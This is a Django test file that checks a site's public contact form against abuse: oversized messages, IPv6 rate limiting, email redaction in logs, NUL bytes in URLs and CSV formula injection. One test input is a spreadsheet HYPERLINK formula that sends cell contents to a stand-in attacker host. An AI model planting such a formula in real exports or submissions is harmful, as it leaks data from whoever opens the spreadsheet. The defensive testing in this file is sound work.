"""What a hostile visitor would try on the public forms, and what stops it: a message of
any size, a formula for the moderator's spreadsheet, a fresh IPv6 address per message,
and an address that a traceback would carry into the log."""

import csv
import io
import logging

from django.core.management import call_command
from django.test import TestCase

from wagtail.contrib.forms.models import FormSubmission

from home.models import CONTACT_FIELD_MAX_LENGTH, ContactPage
from privacy.logging import RedactEmailAddresses
from privacy.spam import RATE_LIMIT_POSTS, rate_limit_subject
from privacy.spreadsheets import neutralise_formula
from tests.support.factories import make_member

FORMULA = '=HYPERLINK("http://attacker.example/steal?x="&A1,"Click to see the message")'


class ContactFormAbuseTests(TestCase):
    @classmethod
    def setUpTestData(cls):
        call_command("load_demo", stdout=io.StringIO())
        cls.page = ContactPage.objects.get()
        cls.consent_field = cls.page.form_fields.get(field_type="checkbox").clean_name

    def post(self, message, **extra):
        data = {
            "your_name": "Sam Example",
            "your_email_address": "sam@example.net",
            "your_message": message,
            self.consent_field: "on",
        }
        return self.client.post("/contact/", data, **extra)

    def test_a_message_over_the_limit_is_refused_and_kept_in_the_form(self):
        too_long = "word " * (CONTACT_FIELD_MAX_LENGTH // 5 + 1)
        response = self.post(too_long)
        self.assertEqual(response.status_code, 200)
        self.assertContains(response, "Please correct the following")
        self.assertContains(response, f"at most {CONTACT_FIELD_MAX_LENGTH} characters")
        self.assertContains(response, too_long.strip()[:200])
        self.assertFalse(FormSubmission.objects.exists())
        self.assertEqual(self.post("word " * 900).status_code, 200)
        self.assertEqual(FormSubmission.objects.count(), 1)

    def test_the_moderators_export_shows_a_formula_as_text(self):
        self.post(FORMULA)
        self.client.force_login(make_member("Moderators"))
        response = self.client.get(f"/admin/forms/submissions/{self.page.pk}/?export=csv")
        self.assertEqual(response.status_code, 200)
        rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
        cells = [cell for row in rows[1:] for cell in row]
        self.assertIn("'" + FORMULA, cells)
        self.assertFalse([cell for cell in cells if cell.startswith(("=", "+", "@"))])

    def test_every_address_of_one_ipv6_network_shares_one_limit(self):
        for number in range(1, RATE_LIMIT_POSTS + 1):
            response = self.post("Hello", REMOTE_ADDR=f"2001:db8:1:2::{number:x}")
            self.assertEqual(response.status_code, 200)
        # A new address in the same /64 is the same household or phone.
        self.assertEqual(self.post("Hello", REMOTE_ADDR="2001:db8:1:2::ffff").status_code, 429)
        # Another network is not held back.
        self.assertEqual(self.post("Hello", REMOTE_ADDR="2001:db8:1:3::1").status_code, 200)


def test_what_the_rate_limit_counts():
    assert rate_limit_subject("2001:db8:1:2:aaaa::1") == "2001:db8:1:2::/64"
    assert rate_limit_subject("::ffff:192.0.2.1") == "192.0.2.1"
    assert rate_limit_subject("192.0.2.1") == "192.0.2.1"
    assert rate_limit_subject("not an address") == "not an address"


def test_a_formula_is_neutralised_and_other_text_kept():
    for formula in ["=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"]:
        assert neutralise_formula(formula) == "'" + formula
    for text in ["Hello", "", "a=b", 42, None]:
        assert neutralise_formula(text) == text


def test_a_traceback_in_the_log_names_no_address():
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.addFilter(RedactEmailAddresses())
    logger = logging.getLogger("tests.redaction")
    logger.addHandler(handler)
    try:
        try:
            raise ConnectionRefusedError("550 mailbox unavailable: sam@example.net")
        except ConnectionRefusedError:
            logger.exception("Could not e-mail robin@example.net")
    finally:
        logger.removeHandler(handler)
    logged = stream.getvalue()
    assert "ConnectionRefusedError" in logged
    assert "550 mailbox unavailable: [address]" in logged
    assert "@" not in logged


def test_a_nul_in_the_address_never_gives_a_server_error(client, db):
    call_command("load_demo", stdout=io.StringIO())
    for path in ["/blog/?tag=%00", "/blog/?category=a%00b", "/groups/?q=%00", "/search/?q=%00"]:
        response = client.get(path)
        assert response.status_code == 200, path
    assert client.get("/blog/tag/%00/").status_code == 404
    assert client.get("/groups/%00/").status_code == 404
